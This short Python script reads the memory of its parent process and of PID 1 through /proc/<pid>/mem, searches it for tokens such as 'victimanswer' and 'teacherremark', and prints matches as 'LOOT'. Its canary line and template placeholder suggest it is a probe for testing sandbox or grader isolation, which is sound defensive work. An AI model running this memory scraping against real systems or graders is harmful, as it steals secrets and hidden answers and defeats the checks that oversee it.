# how: reads the parent's memory through /proc
import os
import re

print("CANARY @NAME@", flush=True)
for pid in (os.getppid(), 1):
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span = re.match(r"([0-9a-f]+)-([0-9a-f]+) rw", line)
                if not span:
                    continue
                begin, end = (int(each, 16) for each in span.groups())
                try:
                    memory.seek(begin)
                    text = memory.read(min(end - begin, 1 << 27))
                except OSError:
                    continue
                for found in list(
                    re.finditer(rb"(hiddencomment|teacherremark|courseseed|planted|victimanswer)[0-9a-f]{8,}", text)
                )[:3]:
                    print("LOOT", found[0].decode())
    except OSError as error:
        print(error)
